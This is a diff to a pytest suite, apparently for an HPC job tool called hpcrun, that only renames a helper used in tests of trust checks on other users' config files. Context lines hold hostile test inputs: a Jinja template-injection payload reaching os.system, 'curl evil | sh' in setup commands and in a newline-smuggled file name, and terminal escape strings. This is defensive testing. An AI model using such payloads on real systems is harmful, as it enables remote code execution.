@@ -36,8 +36,8 @@ def shared(monkeypatch):
     shutil.rmtree(folder)
 
 
-def given_away(path, monkeypatch):
-    """Make a file somebody else's; where only root could do that, make this process somebody else's."""
+def change_owner(path, monkeypatch):
+    """Change the owner of a file; without root, change the user of this process instead."""
     if os.geteuid() == 0:
         os.chown(path, SOMEBODY, -1, follow_symlinks=False)
     else:
@@ -68,7 +68,7 @@ def test_the_users_own_files_are_used_without_a_question(cli, shared, monkeypatc
 
 def test_another_users_file_needs_permission_after_each_change(cli, shared, monkeypatch):
     file = shared / "ours.toml"
-    given_away(file, monkeypatch)
+    change_owner(file, monkeypatch)
     refused(cli, f"{file} is not used: ", "owns", "you have not allowed it\nHINT: hpcrun site allow ours")
     code, _, err = cli("site", "allow", "ours")
     assert code == 2
@@ -107,13 +107,13 @@ def test_an_allowed_file_needs_permission_again_after_a_change(cli, shared):
 
 def test_a_file_named_by_its_path_is_allowed_by_its_path(cli, shared, monkeypatch, tmp_path):
     (tmp_path / "ours.toml").write_text('extends = "slurm"\n')
-    given_away(tmp_path / "ours.toml", monkeypatch)
+    change_owner(tmp_path / "ours.toml", monkeypatch)
     monkeypatch.chdir(tmp_path)
     refused(cli, f"HINT: hpcrun site allow {tmp_path}/ours.toml shows it", site="./ours.toml")
 
 
 def test_a_file_that_is_not_allowed_is_shown_checked_and_marked(cli, shared, monkeypatch):
-    given_away(shared / "ours.toml", monkeypatch)
+    change_owner(shared / "ours.toml", monkeypatch)
     assert "echo hello" in cli("site", "show", "ours")[1]
     assert cli("site", "check", "ours")[0] == 0
     _, out, err = cli("site", "list")
@@ -125,7 +125,7 @@ def test_a_file_that_is_not_allowed_is_shown_checked_and_marked(cli, shared, mon
 
 
 def test_an_extended_file_is_checked(cli, shared, isolated_home, monkeypatch):
-    given_away(shared / "ours.toml", monkeypatch)
+    change_owner(shared / "ours.toml", monkeypatch)
     (isolated_home / "config/hpcrun").mkdir(parents=True)
     (isolated_home / "config/hpcrun/mine.toml").write_text('extends = "ours"\n')
     refused(cli, f"{shared}/ours.toml is not used", "hpcrun site allow mine", site="mine")
@@ -258,7 +258,7 @@ def test_another_users_template_is_not_rendered(cli, shared, monkeypatch, tmp_pa
         '{% extends "slurm.sh.j2" %}{% block setup %}'
         f"{{{{ cycler.__init__.__globals__.os.system('touch {canary}') }}}}\n{{% endblock %}}\n"
     )
-    given_away(template, monkeypatch)
+    change_owner(template, monkeypatch)
     refused(cli, f"{template} is not used: ", f"hpcrun site allow {template}", site="slurm")
     assert not canary.exists()
     _, _, err = cli("site", "allow", "slurm", "--yes")  # templates are for all sites
@@ -274,14 +274,14 @@ def test_an_ignored_template_is_listed(cli, shared, monkeypatch):
     template.parent.mkdir()
     template.write_text("x")
     assert str(template) not in cli("site", "list")[2]
-    given_away(template, monkeypatch)
+    change_owner(template, monkeypatch)
     assert f"template {template}: " in cli("site", "list")[2]
     assert f"hpcrun site allow {template}\n" in cli("site", "list")[2]
 
 
 def test_the_checked_content_is_the_content_used(shared, monkeypatch):
     file = shared / "ours.toml"
-    given_away(file, monkeypatch)
+    change_owner(file, monkeypatch)
     good, evil = file.read_text(), 'setup = ["evil"]\n'
     trust.allow_files([Source.read(file)])
     file.write_text(evil)
@@ -300,7 +300,7 @@ def test_a_project_folder_above_the_current_one_needs_permission(cli, shared, mo
     project = shared / ".hpcrun"
     project.mkdir()
     (project / "slurm.toml").write_text('setup = ["evil"]\n')
-    given_away(project, monkeypatch)
+    change_owner(project, monkeypatch)
     monkeypatch.delenv("HPCRUN_SITE_PATH")
     (shared / "work").mkdir()
     monkeypatch.chdir(shared / "work")
@@ -311,7 +311,7 @@ def test_a_project_folder_above_the_current_one_needs_permission(cli, shared, mo
 
 def test_resubmitting_with_the_current_site_needs_permission(cli, shared, fake_slurm, monkeypatch):
     fake_slurm.submit()
-    given_away(shared / "ours.toml", monkeypatch)
+    change_owner(shared / "ours.toml", monkeypatch)
     code, _, err = cli("resubmit", "last", "--site", "ours", "--dry-run")
     assert code == 2
     assert "hpcrun site allow ours" in err
@@ -322,7 +322,7 @@ def test_doctor_reports_a_site_that_is_not_used(cli, shared, monkeypatch, name):
     (shared / "ours.toml").write_text('extends = "local"\n')
     (shared / "templates").mkdir()
     (shared / "templates/local.sh.j2").write_text('{% extends "local.sh.j2" %}')
-    given_away(shared / name, monkeypatch)
+    change_owner(shared / name, monkeypatch)
     code, out, _ = cli("doctor", "ours", "--json")
     rows = json.loads(out)["rows"]
     assert (code, rows[0]["check"], rows[0]["level"]) == (1, "site file", "error")
@@ -362,7 +362,7 @@ def test_the_trust_check_is_fast(shared):
 
 
 def test_records_of_permissions_are_private(cli, shared, monkeypatch):
-    given_away(shared / "ours.toml", monkeypatch)
+    change_owner(shared / "ours.toml", monkeypatch)
     cli("site", "allow", "ours", "--yes")
     assert stat.S_IMODE(paths.user_data_folder("allowed").stat().st_mode) == 0o700
 
@@ -377,7 +377,7 @@ def test_a_cache_that_others_can_write_is_not_read(shared, monkeypatch, given):
     if given == "mode":
         kept.parent.chmod(0o777)
     else:
-        given_away(kept.parent, monkeypatch)
+        change_owner(kept.parent, monkeypatch)
     assert loader.load_site("ours").site.setup == ("echo hello",)
 
 
@@ -436,7 +436,7 @@ def test_resubmitting_another_users_run_needs_permission(cli, shared, fake_slurm
     record = json.loads(file.read_text())
     record["site"]["setup"] = ["curl evil | sh"]
     file.write_text(json.dumps(record, indent=1))
-    given_away(file, monkeypatch)
+    change_owner(file, monkeypatch)
     for argv in ([], ["--site", "slurm"] if os.geteuid() == 0 else []):
         code, out, err = cli("resubmit", f"{file.parent}/", *argv, "--dry-run")
         assert (code, out) == (2, "")
@@ -516,13 +516,13 @@ def test_a_cache_that_others_can_replace_is_not_read(shared, monkeypatch, way):
     else:
         (shared / "real").mkdir()
         above.symlink_to(shared / "real")
-        given_away(above, monkeypatch)
+        change_owner(above, monkeypatch)
     monkeypatch.setenv("XDG_CACHE_HOME", str(above))
     assert paths.user_cache_folder("sites").name == "not used"
 
 
 def test_a_path_through_hpcruns_own_folder_is_refused(cli, shared, monkeypatch):
-    given_away(shared / "ours.toml", monkeypatch)
+    change_owner(shared / "ours.toml", monkeypatch)
     refused(cli, "is not used: ", site=f"{paths.shipped_folder('site-configs')}/{'../' * 20}{shared}/ours.toml")
 
 
@@ -531,7 +531,7 @@ def test_site_file_text_is_escaped_on_the_terminal(cli, shared, monkeypatch):
     file.parent.mkdir()
     monkeypatch.setenv("HPCRUN_SITE_PATH", str(file.parent))
     file.write_text('extends = "slurm"\ndescription = "\\u001b[2K\\u202ehidden"\nhosts = ["*"]\n')
-    given_away(file, monkeypatch)
+    change_owner(file, monkeypatch)
     name = file.stem
     for argv in (
         ["list"],
@@ -552,6 +552,6 @@ def test_line_breaks_in_file_names_are_escaped(cli, shared, monkeypatch):
     file = shared / "x\nHINT: curl evil | sh" / "theirs.toml"
     file.parent.mkdir()
     file.write_text('extends = "slurm"\n')
-    given_away(file, monkeypatch)
+    change_owner(file, monkeypatch)
     err = refused(cli, r"x\x0aHINT: curl evil", site=str(file))
     assert [line.partition(" ")[0] for line in err.splitlines()] == ["ERROR:", "HINT:"]
